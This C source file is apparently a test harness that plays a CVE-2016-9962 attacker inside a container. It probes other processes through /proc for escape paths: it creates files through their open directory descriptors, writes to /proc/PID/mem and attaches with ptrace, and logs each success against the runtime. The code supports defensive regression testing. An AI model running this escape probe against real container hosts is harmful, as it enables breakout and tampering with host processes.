/* fdscan.c: fdscan SECONDS LOG: the CVE-2016-9962 attacker, run as a
 * container process.  For SECONDS (0: until killed) it scans every other
 * process of its pid namespace and tries, through /proc/PID: to create a
 * file in each directory the process holds open (/proc/PID/fd/N/escaped), to
 * open /proc/PID/mem for writing and to ptrace it.  Each success on a
 * process that is kist (comm) is a line in LOG; the container's own
 * processes are fair game and not logged. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* The comm of process p, "" when gone. */
static void
comm_of (pid_t p, char *comm, size_t size)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%d/comm", (int) p);
  comm[0] = '\0';
  FILE *c = fopen (path, "r");
  if (c)
    {
      if (fgets (comm, (int) size, c) == NULL)
        comm[0] = '\0';
      fclose (c);
    }
  comm[strcspn (comm, "\n")] = '\0';
}

int
main (int argc, char **argv)
{
  if (argc < 3)
    return 2;
  int seconds = atoi (argv[1]);
  FILE *log = fopen (argv[2], "a");
  if (log == NULL)
    return 2;
  setvbuf (log, NULL, _IOLBF, 0);
  fprintf (log, "scanning\n");
  signal (SIGCHLD, SIG_IGN);
  time_t end = time (NULL) + seconds;
  pid_t self = getpid ();
  long rounds = 0;
  while (seconds == 0 || time (NULL) < end)
    {
      DIR *d = opendir ("/proc");
      if (d == NULL)
        return 2;
      struct dirent *de;
      while ((de = readdir (d)))
        {
          pid_t p = (pid_t) atoi (de->d_name);
          if (p <= 0 || p == self)
            continue;
          char path[128], comm[64], after[64];
          comm_of (p, comm, sizeof comm);
          for (int n = 3; n < 24; n++)
            {
              snprintf (path, sizeof path, "/proc/%d/fd/%d/escaped-%d-%d", (int) p, n, (int) p, n);
              int f = open (path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
              if (f >= 0)
                {
                  fprintf (log, "ESCAPE %s %s\n", comm, path);
                  close (f);
                }
              /* (the file stays as evidence: the test looks for it) */
            }
          snprintf (path, sizeof path, "/proc/%d/mem", (int) p);
          int m = open (path, O_RDWR | O_CLOEXEC);
          /* A process that was kist when we looked may have exec'd its
           * program since (then it is fair game): count it only if it still
           * is kist after the access (under ptrace it is stopped). */
          if (m >= 0)
            {
              comm_of (p, after, sizeof after);
              if (strcmp (after, "kist") == 0)
                fprintf (log, "MEM %s %d\n", after, (int) p);
              close (m);
            }
          /* PTRACE_SEIZE + INTERRUPT, not PTRACE_ATTACH: no SIGSTOP is sent,
           * which could leave the process group-stopped after the detach. */
          if (ptrace (PTRACE_SEIZE, p, 0, 0) == 0)
            {
              ptrace (PTRACE_INTERRUPT, p, 0, 0);
              waitpid (p, NULL, __WALL);
              comm_of (p, after, sizeof after);
              if (strcmp (after, "kist") == 0)
                fprintf (log, "PTRACE %s %d\n", after, (int) p);
              ptrace (PTRACE_DETACH, p, 0, 0);
            }
        }
      closedir (d);
      rounds++;
    }
  fprintf (log, "rounds %ld\n", rounds);
  return 0;
}
